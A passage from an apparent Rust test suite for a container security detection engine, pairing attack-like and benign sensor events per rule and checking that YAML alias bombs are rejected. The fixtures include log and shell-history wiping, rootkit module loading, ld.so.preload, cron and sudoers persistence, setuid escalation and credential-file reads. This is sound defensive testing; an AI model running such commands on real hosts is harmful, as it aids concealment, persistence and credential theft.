                exec("/usr/bin/runc", &["runc", "init"]).comm("runc:[2:INIT]").mount("cgroup", "/sys/fs/cgroup", "cgroup2"),
                exec("/bin/aws-ebs-csi-driver", &["aws-ebs-csi-driver", "node"]).mount(
                    "/dev/nvme1n1",
                    "/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/abc/globalmount",
                    "ext4",
                ),
                bb("mount", &["mount", "/dev/sda1", "/mnt"]).host().mount("/dev/sda1", "/mnt", "ext4"),
                bb("mount", &["mount", "-t", "tmpfs", "tmpfs", "/mnt"]).mount("tmpfs", "/mnt", "tmpfs"),
            ],
        ),
        sc(
            "PAL-SEN-035",
            vec![
                bb("mount", &["mount", "-t", "tmpfs", "tmpfs", "/mnt"]).mount("tmpfs", "/mnt", "tmpfs"),
                bb("mount", &["mount", "-o", "bind", "/etc", "/mnt"]).mount("/etc", "/mnt", ""),
            ],
            vec![
                bb("mount", &["mount", "-t", "cgroup", "cgroup", "/tmp/cgrp"]).mount("cgroup", "/tmp/cgrp", "cgroup"),
                exec("/usr/bin/s3fs", &["s3fs", "bucket", "/data"]).mount("s3fs", "/data", "fuse.s3fs"),
                exec("/usr/bin/runc", &["runc", "init"]).comm("runc:[2:INIT]").mount("proc", "/proc", "proc"),
                bb("mount", &["mount", "-t", "tmpfs", "tmpfs", "/mnt"]).host().mount("tmpfs", "/mnt", "tmpfs"),
                // `unshare -m` making / private (MS_REC | MS_PRIVATE): no filesystem mounted
                bb("unshare", &["unshare", "-m", "true"]).mount("none", "/", "").with_sys(|s| s.flags = 0x44000),
            ],
        ),
        sc(
            "PAL-SEN-036",
            vec![
                exec("/usr/bin/curl", &["curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"])
                    .unix("/var/run/docker.sock"),
                exec("/usr/bin/python3", &["python3", "x.py"]).unix("/run/containerd/containerd.sock"),
                exec("/tmp/x", &["x"]).unix("/host/run/crio/crio.sock"),
            ],
            vec![
                exec("/opt/datadog-agent/bin/agent/datadog-agent", &["datadog-agent", "run"]).unix("/var/run/docker.sock"),
                exec("/usr/bin/docker", &["docker", "ps"]).host().unix("/var/run/docker.sock"),
                exec("/usr/bin/curl", &["curl", "--unix-socket", "/var/run/app.sock", "http://x/"]).unix("/var/run/app.sock"),
            ],
        ),
        sc(
            "PAL-SEN-037",
            vec![
                bb("insmod", &["insmod", "/tmp/rk.ko"]).module("finit_module", "/tmp/rk.ko"),
                exec("/tmp/x", &["x"]).module("init_module", "diamorphine"),
            ],
            vec![
                exec("/sbin/modprobe", &["modprobe", "ip_vs"])
                    .ancestry(&["/usr/local/bin/kube-proxy"])
                    .module("finit_module", "ip_vs"),
                bb("insmod", &["insmod", "/tmp/rk.ko"]).host().module("finit_module", "/tmp/rk.ko"),
            ],
        ),
        sc(
            "PAL-SEN-038",
            vec![exec("/sbin/insmod", &["insmod", "/tmp/rk.ko"])
                .host()
                .ancestry(&["/bin/bash", "/usr/sbin/sshd"])
                .module("finit_module", "/tmp/rk.ko")],
            vec![
                exec("/sbin/modprobe", &["modprobe", "-q", "--", "fs-overlay"]).host().ppid(2).module("finit_module", "overlay"),
                exec("/usr/lib/systemd/systemd-modules-load", &["systemd-modules-load"]).host().module("finit_module", "br_netfilter"),
                exec("/sbin/modprobe", &["modprobe", "ip_tables"])
                    .host()
                    .ancestry(&["/usr/sbin/iptables-restore", "/usr/bin/kubelet"])
                    .module("finit_module", "ip_tables"),
                bb("insmod", &["insmod", "/tmp/rk.ko"]).module("finit_module", "/tmp/rk.ko"),
            ],
        ),
        sc(
            "PAL-SEN-039",
            vec![bb("modprobe", &["modprobe", "rk"]), exec("/sbin/insmod", &["insmod", "/tmp/rk.ko"])],
            vec![
                exec("/sbin/modprobe", &["modprobe", "ip_vs"]).ancestry(&["/usr/local/bin/kube-proxy"]),
                bb("modprobe", &["modprobe", "rk"]).host(),
                exec("/sbin/modinfo", &["modinfo", "ip_vs"]),
            ],
        ),
        sc(
            "PAL-SEN-040",
            vec![
                bb("sh", &["sh", "-c", "echo /tmp/l.so > /etc/ld.so.preload"]).file("write", "/etc/ld.so.preload"),
                exec("/usr/bin/mv", &["mv", "/tmp/p", "/etc/ld.so.preload"]).host().rename("/tmp/p", "/etc/ld.so.preload"),
                bb("mv", &["mv", "/tmp/p", "/etc/ld.so.preload"]).rename("/tmp/p", "/etc/ld.so.preload"),
            ],
            vec![
                exec("/usr/bin/ls", &["ls"]).file("open", "/etc/ld.so.preload"),
                exec("/bin/sh", &["sh"]).file("write", "/etc/ld.so.conf"),
            ],
        ),
        sc(
            "PAL-SEN-041",
            vec![
                bb("rm", &["rm", "/var/log/auth.log"]).host().file("unlink", "/var/log/auth.log"),
                exec("/bin/dd", &["dd", "if=/dev/null", "of=/var/log/nginx/access.log"]).file("write", "/var/log/nginx/access.log"),
                exec("/usr/bin/mv", &["mv", "/var/log/wtmp", "/tmp/w"]).rename("/var/log/wtmp", "/tmp/w"),
            ],
            vec![
                exec("/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"])
                    .host()
                    .rename("/var/log/syslog", "/var/log/syslog.1"),
                exec("/usr/bin/java", &["java", "-jar", "app.jar"]).rename("/var/log/app/app.log", "/var/log/app/app.1.log"),
                bb("sh", &["sh"]).append("/var/log/app.log"),
                bb("sh", &["sh", "-c", "exec /app/server > /var/log/app.log 2>&1"]).file("write", "/var/log/app.log"),
                exec("/usr/bin/rm", &["rm", "/var/log/old.log"]).host().ancestry(&["/bin/sh", "/usr/sbin/cron"]).file("unlink", "/var/log/old.log"),
            ],
        ),
        sc(
            "PAL-SEN-042",
            vec![
                bb("rm", &["rm", "/root/.bash_history"]).file("unlink", "/root/.bash_history"),
                exec("/usr/bin/mv", &["mv", "/home/u/.bash_history", "/tmp/h"]).host().rename("/home/u/.bash_history", "/tmp/h"),
                exec("/bin/dd", &["dd", "if=/dev/null", "of=/root/.bash_history"]).file("write", "/root/.bash_history"),
            ],
            vec![
                exec("/bin/bash", &["bash"]).file("write", "/root/.bash_history"),
                exec("/bin/bash", &["bash"]).rename("/root/.bash_history.tmp", "/root/.bash_history"),
                exec("/bin/bash", &["bash"]).file("open", "/root/.bash_history"),
            ],
        ),
        sc(
            "PAL-SEN-043",
            vec![
                exec("/bin/bash", &["bash", "-c", "history -c"]),
                exec("/bin/sh", &["sh", "-c", "export HISTFILE=/dev/null; id"]),
                exec("/usr/bin/shred", &["shred", "-u", "/tmp/x"]).host(),
                bb("truncate", &["truncate", "-s", "0", "/var/log/syslog"]),
                exec("/bin/ln", &["ln", "-sf", "/dev/null", "/root/.bash_history"]),
                bb("sh", &["sh", "-c", ": > /var/log/auth.log"]),
            ],
            vec![
                exec("/bin/sh", &["sh", "-c", "echo history"]),
                bb("truncate", &["truncate", "-s", "0", "/tmp/x"]),
                exec("/bin/rm", &["rm", "/tmp/history.txt"]),
                bb("sh", &["sh", "-c", "exec /app/server > /var/log/app.log 2>&1"]),
            ],
        ),
        sc(
            "PAL-SEN-044",
            vec![
                exec("/usr/bin/python3", &["python3", "inject.py"]).ptrace(5, 1234),
                exec("/usr/bin/gdb", &["gdb", "-p", "1234"]).host().ptrace(4, 1234),
                exec("/tmp/x", &["x"]).ptrace(0x4205, 1),
            ],
            vec![
                exec("/usr/bin/python3", &["python3", "inject.py"]).ptrace(16, 1234),
                exec("/usr/bin/strace", &["strace", "-p", "1"]).ptrace(12, 1),
                exec("/usr/sbin/criu", &["criu", "dump"]).host().ptrace(5, 1234),
            ],
        ),
        sc(
            "PAL-SEN-045",
            vec![
                exec("/usr/bin/strace", &["strace", "-p", "1"]).ptrace(0x4206, 1),
                exec("/usr/bin/gdb", &["gdb", "-p", "7"]).ptrace(16, 7),
            ],
            vec![
                exec("/usr/bin/gdb", &["gdb", "-p", "7"]).host().ptrace(16, 7),
                exec("/usr/bin/gdb", &["gdb", "-p", "7"]).ptrace(12, 7),
                exec("/usr/bin/falco", &["falco"]).ptrace(16, 7),
            ],
        ),
        sc(
            "PAL-SEN-046",
            vec![
                bb("chmod", &["chmod", "u+s", "/tmp/sh"]).chmod("/tmp/sh", 0o4755),
                exec("/bin/chmod", &["chmod", "2755", "/usr/local/bin/x"]).host().chmod("/usr/local/bin/x", 0o2755),
            ],
            vec![
                exec("/usr/bin/dpkg", &["dpkg", "-i", "sudo.deb"]).host().chmod("/usr/bin/sudo", 0o4755),
                exec("/bin/chmod", &["chmod", "755", "/tmp/x"]).chmod("/tmp/x", 0o755),
                exec("/bin/chmod", &["chmod", "u+s", "/usr/bin/x"]).ancestry(&["/bin/sh", "/kaniko/executor"]).chmod("/usr/bin/x", 0o4755),
            ],
        ),
        sc(
            "PAL-SEN-047",
            vec![
                exec("/tmp/exploit", &["./exploit"]).uid(1000).sys("setresuid").ids(&[0, 0, 0]),
                exec("/usr/bin/python3", &["python3", "x.py"]).uid(33).sys("setuid").ids(&[0]),
            ],
            vec![
                exec("/usr/bin/sudo", &["sudo", "id"]).uid(1000).sys("setresuid").ids(&[0, 0, 0]),
                exec("/tmp/exploit", &["./exploit"]).sys("setresuid").ids(&[0, 0, 0]),
                exec("/usr/bin/ping", &["ping", "x"]).uid(1000).sys("setuid").ids(&[1000]),
                exec("/tmp/exploit", &["./exploit"]).uid(1000).host().sys("setresuid").ids(&[0, 0, 0]),
                exec("/tmp/exploit", &["./exploit"]).uid(1000).sys("setresgid").ids(&[0, 0, 0]),
            ],
        ),
        sc(
            "PAL-SEN-048",
            vec![exec("/usr/local/bin/tool", &["tool"]).drift()],
            vec![exec("/usr/local/bin/tool", &["tool"])],
        ),
        sc(
            "PAL-SEN-049",
            vec![
                bb("sh", &["sh", "-c", "echo '* * * * * root /tmp/x' > /etc/cron.d/x"]).file("write", "/etc/cron.d/x"),
                bb("sh", &["sh"]).append("/etc/crontab"),
                exec("/usr/bin/mv", &["mv", "/tmp/c", "/etc/cron.d/c"]).host().rename("/tmp/c", "/etc/cron.d/c"),
                bb("mv", &["mv", "/tmp/c", "/etc/cron.d/c"]).rename("/tmp/c", "/etc/cron.d/c"),
            ],
            vec![
                exec("/usr/bin/dpkg", &["dpkg", "-i", "x.deb"]).host().file("write", "/etc/cron.d/popularity-contest"),
                exec("/usr/sbin/cron", &["cron"]).host().file("open", "/etc/crontab"),
            ],
        ),
        sc(
            "PAL-SEN-050",
            vec![
                bb("sh", &["sh"]).append("/etc/sudoers"),
                exec("/bin/sh", &["sh"]).host().file("write", "/etc/sudoers.d/99-x"),
                bb("mv", &["mv", "/tmp/s", "/etc/sudoers.d/s"]).rename("/tmp/s", "/etc/sudoers.d/s"),
            ],
            vec![
                exec("/usr/sbin/visudo", &["visudo"]).host().rename("/etc/sudoers.tmp", "/etc/sudoers"),
                exec("/usr/bin/sudo", &["sudo", "id"]).host().file("open", "/etc/sudoers"),
            ],
        ),
        sc(
            "PAL-SEN-051",
            vec![
                bb("cat", &["cat", "/etc/kubernetes/admin.conf"]).file("open", "/etc/kubernetes/admin.conf"),
                exec("/usr/bin/python3", &["python3", "x.py"]).file("open", "/var/lib/kubelet/pki/kubelet-client-current.pem"),
            ],
            vec![
                exec("/usr/local/bin/kube-apiserver", &["kube-apiserver"]).file("open", "/etc/kubernetes/pki/ca.crt"),
                exec("/usr/bin/kubelet", &["kubelet"]).host().file("open", "/var/lib/kubelet/pki/kubelet-client-current.pem"),
                exec("/bin/aws-ebs-csi-driver", &["aws-ebs-csi-driver"]).file("open", "/var/lib/kubelet/pods/x/volumes/y"),
            ],
        ),
        sc(
            "PAL-SEN-052",
            vec![bb("cat", &["cat", "/root/.bash_history"]).file("open", "/root/.bash_history")],
            vec![exec("/bin/bash", &["bash"]).file("open", "/root/.bash_history")],
        ),
        sc(
            "PAL-SEN-053",
            vec![exec("/usr/bin/curl", &["curl"]).file("open", "/var/run/docker.sock")],
            vec![
                exec("/usr/bin/cadvisor", &["cadvisor"]).file("open", "/var/run/docker.sock"),
                exec("/usr/bin/docker", &["docker", "ps"]).host().file("open", "/var/run/docker.sock"),
            ],
        ),
    ]
}

/// The alerts the last event raises, after `warm` went through the same engine.
fn sensor_alerts(rs: &RuleSet, warm: &[SensorEvent], ev: &SensorEvent) -> Vec<palisade_detect::alert::Alert> {
    let mut eng = Engine::new(rs, EngineConfig::default()).unwrap_or_else(|e| panic!("{e}"));
    let mut out = Vec::new();
    for w in warm {
        eng.process(&Event::Sensor(w.clone()), &mut out);
    }
    out.clear();
    eng.process(&Event::Sensor(ev.clone()), &mut out);
    assert_eq!(eng.stats().cel_errors, 0, "CEL errors on {ev:?}");
    out
}

#[test]
fn sensor_rule_catalogue() {
    let mut rs = rules();
    let audit: Vec<String> = rs.rules().iter().filter(|r| r.source == Source::K8sAudit).map(|r| r.id.clone()).collect();
    for id in &audit {
        rs.set_enabled(id, false);
    }
    let sensor_rules: Vec<_> = rs.rules().iter().filter(|r| r.source == Source::Sensor).collect();
    assert!(sensor_rules.len() >= 25, "{} sensor rules", sensor_rules.len());
    for r in &sensor_rules {
        assert!(!r.techniques.is_empty() && !r.tactics.is_empty(), "{}: no ATT&CK mapping", r.id);
        assert!(!r.remediation.is_empty() && !r.tags.is_empty() && !r.output.is_empty(), "{}", r.id);
        assert!(!r.matcher.event_types.is_empty(), "{}: not indexed by event type", r.id);
    }
    let cases = sensor_cases();
    let ids: BTreeSet<&str> = cases.iter().map(|c| c.id).collect();
    assert_eq!(ids.len(), cases.len(), "duplicate case");
    for r in &sensor_rules {
        assert!(ids.contains(r.id.as_str()), "no test case for {}", r.id);
    }
    let mut failures = Vec::new();
    for c in &cases {
        assert!(rs.get(c.id).is_some_and(|r| r.source == Source::Sensor), "{}: not a sensor rule", c.id);
        assert!(!c.pos.is_empty() && !c.neg.is_empty(), "{}: needs a positive and a negative event", c.id);
        let mut complete_message = false;
        for e in &c.pos {
            let alerts = sensor_alerts(&rs, &c.warm, e);
            match alerts.iter().find(|a| a.rule.id == c.id) {
                Some(hit) => complete_message |= !hit.message.contains("<NA>"),
                None => failures.push(format!(
                    "{}: positive event did not fire (fired {:?}): {e:?}",
                    c.id,
                    alerts.iter().map(|a| &a.rule.id).collect::<Vec<_>>()
                )),
            }
        }
        // every field of the output template resolves on at least one positive event
        if !complete_message {
            failures.push(format!("{}: every positive's message has <NA> fields", c.id));
        }
        for e in &c.neg {
            let alerts = sensor_alerts(&rs, &c.warm, e);
            if alerts.iter().any(|a| a.rule.id == c.id) {
                failures.push(format!("{}: negative event fired: {e:?}", c.id));
            }
        }
    }
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn sensor_rule_file_lints_clean() {
    let text = include_str!("../rules/sensor.yaml");
    let diags = validate(text, "sensor.yaml");
    let bad: Vec<String> = diags.iter().filter(|d| d.level >= DiagLevel::Warning).map(|d| d.to_string()).collect();
    assert!(bad.is_empty(), "{bad:#?}");
}

#[test]
fn sensor_messages_render_the_event() {
    // spot checks of output templates on complete events
    let mut rs = rules();
    let audit: Vec<String> = rs.rules().iter().filter(|r| r.source == Source::K8sAudit).map(|r| r.id.clone()).collect();
    for id in &audit {
        rs.set_enabled(id, false);
    }
    let msg = |ev: Ev, id: &str| -> String {
        let alerts = sensor_alerts(&rs, &[], &ev.e());
        alerts.into_iter().find(|a| a.rule.id == id).map(|a| a.message).unwrap_or_else(|| panic!("{id} did not fire"))
    };
    assert_eq!(
        msg(exec("/usr/bin/curl", &["curl", "http://169.254.169.254/"]).connect("169.254.169.254", 80), "PAL-SEN-020"),
        "/usr/bin/curl (curl,http://169.254.169.254/) in prod/api-0 connected to the metadata service 169.254.169.254:80"
    );
    assert_eq!(
        msg(exec("/tmp/exploit", &["./exploit"]).uid(1000).sys("setresuid").ids(&[0, 0, 0]), "PAL-SEN-047"),
        "/tmp/exploit (./exploit) uid 1000 called setresuid(0,0,0) in prod/api-0 (image ghcr.io/corp/api:1)"
    );
    assert!(msg(exec("/usr/local/bin/tool", &["tool"]).drift(), "PAL-SEN-048")
        .starts_with("Drifted binary executed: /usr/local/bin/tool"));
}

#[test]
fn benign_node_activity_raises_no_sensor_alert() {
    let mut rs = rules();
    let audit: Vec<String> = rs.rules().iter().filter(|r| r.source == Source::K8sAudit).map(|r| r.id.clone()).collect();
    for id in &audit {
        rs.set_enabled(id, false);
    }
    let runc_init = || exec("/usr/bin/runc", &["runc", "init"]).comm("runc:[2:INIT]").parent(SHIM);
    let node_app = |args: &[&str]| exec("/usr/local/bin/node", args).image("ghcr.io/corp/web:3");
    let background: Vec<Ev> = vec![
        // a container starting: runc's memfd copy and its setup syscalls, the entrypoint script
        exec("/memfd:runc_cloned:/proc/self/exe (deleted)", &["runc", "init"]).comm("runc:[1:CHILD]").fileless(),
        runc_init().sys("unshare").sflags(0x1000_0000 | 0x0002_0000),
        runc_init().sys("setns").sflags(0x4000_0000),
        runc_init().mount("proc", "/proc", "proc"),
        runc_init().mount("cgroup", "/sys/fs/cgroup", "cgroup2"),
        exec("/bin/sh", &["/bin/sh", "/docker-entrypoint.sh", "nginx", "-g", "daemon off;"]).parent(SHIM),
        exec("/usr/bin/envsubst", &["envsubst"]).parent("/bin/sh"),
        exec("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]).parent(SHIM),
        exec("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]).append("/var/log/nginx/error.log"),
        // probes and init containers
        exec("/bin/sh", &["sh", "-c", "curl -fsS http://localhost:8080/healthz || exit 1"]).parent(SHIM),
        exec("/usr/bin/curl", &["curl", "-fsS", "http://localhost:8080/healthz"]),
        exec(
            "/bin/bash",
            &["bash", "-c", "exec 3<>/dev/tcp/localhost/8080; echo -e 'GET /ready HTTP/1.0\\n' >&3; cat <&3"],
        )
        .parent(SHIM),
        bb("sh", &["sh", "-c", "until nc -z db 5432; do sleep 1; done"]).parent(SHIM),
        bb("nc", &["nc", "-z", "db", "5432"]),
        bb("sleep", &["sleep", "1"]),
        // applications
        node_app(&["npm", "start"]).parent(SHIM),
        exec("/bin/sh", &["sh", "-c", "node server.js"]).image("ghcr.io/corp/web:3").parent("/usr/local/bin/node"),
        node_app(&["node", "server.js"]).parent("/bin/sh"),
        node_app(&["node", "server.js"]).file("open", TOKEN),
        node_app(&["node", "server.js"]).connect("10.96.0.1", 443),
        exec("/usr/bin/python3", &["python3", "/app/main.py", "--tmp", "/tmp/work"]).parent(SHIM),
        exec("/usr/bin/python3", &["python3", "/app/main.py"]).connect("169.254.169.254", 80),
        exec("/usr/bin/python3", &["python3", "/app/main.py"]).connect("10.0.4.2", 5432),
        exec("/opt/java/openjdk/bin/java", &["java", "-jar", "/app.jar"])
            .rename("/var/log/app/app.log", "/var/log/app/app.1.log"),
        exec("/bin/sh", &["sh", "-c", "/usr/sbin/sendmail -t -i"]).parent("/usr/sbin/php-fpm8.2"),
        exec("/bin/sh", &["sh", "-c", "/usr/bin/rotatelogs /var/log/apache2/access.%Y %H 86400"])
            .parent("/usr/sbin/apache2"),
        exec("/opt/google/chrome/chrome", &["chrome", "--headless"]).sys("unshare").sflags(0x1000_0000),
        exec("/usr/bin/ssh", &["ssh", "-T", "git@example.com"]).file("write", "/root/.ssh/known_hosts"),
        exec("/usr/bin/ssh", &["ssh", "-T", "git@example.com"]).file("open", "/root/.ssh/id_rsa"),
        // in-cluster image build
        exec("/usr/sbin/useradd", &["useradd", "-u", "1001", "app"]).ancestry(&["/bin/sh", "/kaniko/executor"]),
        exec("/usr/sbin/useradd", &["useradd", "-u", "1001", "app"])
            .ancestry(&["/bin/sh", "/kaniko/executor"])
            .rename("/etc/passwd+", "/etc/passwd"),
        exec("/bin/chmod", &["chmod", "u+s", "/usr/bin/ping"])
            .ancestry(&["/bin/sh", "/kaniko/executor"])
            .chmod("/usr/bin/ping", 0o4755),
        // node agents and the control plane
        exec("/metrics-server", &["/metrics-server"])
            .image("registry.k8s.io/metrics-server/metrics-server:v0.7.1")
            .connect("10.0.0.11", 10250),
        exec("/bin/prometheus", &["prometheus"]).connect("10.0.0.11", 10250),
        exec("/usr/bin/cilium-agent", &["cilium-agent"])
            .image("quay.io/cilium/cilium:v1.15.6")
            .sys("setns")
            .sflags(0x4000_0000),
        exec("/sbin/modprobe", &["modprobe", "ip_vs"]).ancestry(&["/usr/local/bin/kube-proxy"]),
        exec("/sbin/modprobe", &["modprobe", "ip_vs"])
            .ancestry(&["/usr/local/bin/kube-proxy"])
            .module("finit_module", "ip_vs"),
        exec("/bin/aws-ebs-csi-driver", &["aws-ebs-csi-driver", "node"])
            .image("public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:v1.30.0")
            .mount("/dev/nvme1n1", "/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/x/globalmount", "ext4"),
        exec("/opt/datadog-agent/bin/agent/agent", &["agent", "run"]).unix("/var/run/docker.sock"),
        exec("/usr/local/bin/kube-apiserver", &["kube-apiserver"]).file("open", "/etc/kubernetes/pki/apiserver.key"),
        // host housekeeping
        exec("/usr/sbin/sshd", &["sshd: alice [priv]"]).host().file("open", "/etc/shadow"),
        exec("/usr/sbin/cron", &["/usr/sbin/cron", "-f"]).host().file("open", "/etc/crontab"),
        exec("/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"])
            .host()
            .rename("/var/log/syslog", "/var/log/syslog.1"),
        exec("/bin/bash", &["-bash"]).host().ancestry(&["/usr/sbin/sshd"]).file("write", "/home/alice/.bash_history"),
        exec("/usr/bin/kubelet", &["kubelet"]).host().file("write", "/var/lib/kubelet/cpu_manager_state"),
        exec("/usr/bin/kubelet", &["kubelet"]).host().file("open", "/var/lib/kubelet/pki/kubelet-client-current.pem"),
        exec("/usr/lib/systemd/systemd-modules-load", &["systemd-modules-load"])
            .host()
            .module("finit_module", "br_netfilter"),
        exec("/sbin/modprobe", &["modprobe", "-q", "--", "fs-overlay"])
            .host()
            .ppid(2)
            .module("finit_module", "overlay"),
        exec("/usr/lib/systemd/systemd", &["/sbin/init"]).host().file("write", "/sys/fs/cgroup/systemd/release_agent"),
        exec("/usr/lib/systemd/systemd-sysctl", &["systemd-sysctl"])
            .host()
            .file("write", "/proc/sys/kernel/core_pattern"),
        exec("/usr/bin/dpkg", &["dpkg", "--unpack", "sudo.deb"]).host().chmod("/usr/bin/sudo", 0o4755),
        exec("/usr/sbin/visudo", &["visudo"]).host().rename("/etc/sudoers.tmp", "/etc/sudoers"),
        exec("/usr/bin/docker", &["docker", "ps"]).host().unix("/var/run/docker.sock"),
    ];
    let mut eng = Engine::new(&rs, EngineConfig::default()).unwrap_or_else(|e| panic!("{e}"));
    let mut fired = Vec::new();
    for (i, ev) in background.into_iter().enumerate() {
        let ev = ev.at(T0 + i as i64 * 1_000_000).e();
        let mut out = Vec::new();
        eng.process(&Event::Sensor(ev.clone()), &mut out);
        for a in out {
            fired.push(format!("{} on {:?} {:?}", a.rule.id, ev.process.exe, ev.process.args));
        }
    }
    assert_eq!(eng.stats().cel_errors, 0);
    assert!(fired.is_empty(), "{fired:#?}");
}

/// A rule file whose `lists` hold a nested billion laughs: nine strings, then nine levels of
/// nine aliases of the previous level (9^10 strings once expanded) in about 500 bytes.
fn billion_laughs_rule_file() -> String {
    let mut s =
        String::from("lists:\n  l0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for i in 1..10 {
        let p = i - 1;
        s.push_str(&format!("  l{i}: &a{i} [*a{p},*a{p},*a{p},*a{p},*a{p},*a{p},*a{p},*a{p},*a{p}]\n"));
    }
    s
}

/// A rule file with one anchor of `n` items referenced by `m` aliases.
fn fan_out_rule_file(n: usize, m: usize) -> String {
    let mut s = String::from("lists:\n  big: &a [");
    for i in 0..n {
        s.push_str(&format!("{}item{i}", if i > 0 { "," } else { "" }));
    }
    s.push_str("]\n");
    for i in 0..m {
        s.push_str(&format!("  copy{i}: *a\n"));
    }
    s
}

fn assert_refused_quickly(text: &str, file: &str) {
    let t = std::time::Instant::now();
    let diags = validate(text, file);
    assert!(t.elapsed() < std::time::Duration::from_secs(2), "validate took {:?}", t.elapsed());
    let e = diags.iter().find(|d| d.level == DiagLevel::Error).unwrap_or_else(|| panic!("no error: {diags:?}"));
    assert!(e.message.contains("after alias expansion"), "{e}");
    assert_eq!(e.file, file);
    assert!(e.line > 1, "{e}");
    assert!(e.to_string().contains(file), "{e}");
    // Loading refuses it the same way.
    let t = std::time::Instant::now();
    let err = rules().add_file(text, file).unwrap_err();
    assert!(t.elapsed() < std::time::Duration::from_secs(2), "add_file took {:?}", t.elapsed());
    assert!(err.0.iter().any(|d| d.message.contains("after alias expansion")), "{err}");
}

#[test]
fn rule_file_alias_bombs_are_refused_quickly() {
    let text = billion_laughs_rule_file();
    assert!((400..700).contains(&text.len()), "{}", text.len());
    assert_refused_quickly(&text, "laughs.yaml");
    // 3,000 items × 3,000 aliases = 9M strings from about 100 KB.
    let text = fan_out_rule_file(3_000, 3_000);
    assert_refused_quickly(&text, "fanout.yaml");
    // A few aliases are still fine.
    let ok = fan_out_rule_file(5, 3);
    let diags = validate(&ok, "ok.yaml");
    assert!(!diags.iter().any(|d| d.level == DiagLevel::Error), "{diags:?}");
}
